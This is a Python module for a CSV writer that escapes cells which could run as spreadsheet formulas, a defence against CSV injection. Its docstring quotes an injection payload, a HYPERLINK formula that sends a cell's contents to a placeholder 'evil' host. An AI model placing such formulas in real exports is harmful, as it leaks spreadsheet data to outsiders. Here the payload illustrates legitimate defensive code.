"""Every CSV file the product writes goes through this writer, so that no cell can run as a
spreadsheet formula ("CSV injection").

Names, notes and reasons come from billing files, the API and operators: a holder name such as
`=HYPERLINK("http://evil/?"&A1;"click")` or `@SUM(...)` would run when the export is opened in
Excel or LibreOffice. A text cell that starts with = + - @ (or their full-width forms), a tab or
a carriage return gets a leading apostrophe, which spreadsheets show as plain text (OWASP's
advice).

Decision: a cell that is only numbers or phone numbers (a sign, then digits, blanks, dots,
commas, semicolons, parentheses, plus and minus signs: "-150.00", "+7 (916) 123-45-67",
"+79161234567; +74951234567") is written as it is. It cannot hold a function call or a cell
reference (those need letters or other characters), so it is harmless, and a negative amount
stays a number in the spreadsheet and billing's importer reads phone numbers unchanged.

The one CSV written without this is the JSON API's in-memory hand-over to the importer
(ivr.web.api.rows_to_csv): no spreadsheet ever opens it, and an apostrophe there would be stored.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["SafeWriter", "safe_cell", "writer"]

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER_OR_PHONE = re.compile(r"[+-][\d\s().,;+-]*\d[\d\s().,;+-]*")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it, never as a formula (non-text values unchanged)."""
    if not isinstance(value, str) or not value or value[0] not in FORMULA_STARTS:
        return value
    if _NUMBER_OR_PHONE.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through safe_cell."""

    def __init__(self, fh: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: _Writable, **fmt: Any) -> SafeWriter:
    """Like csv.writer(fh, **fmt), for a file a person may open in a spreadsheet."""
    return SafeWriter(fh, **fmt)
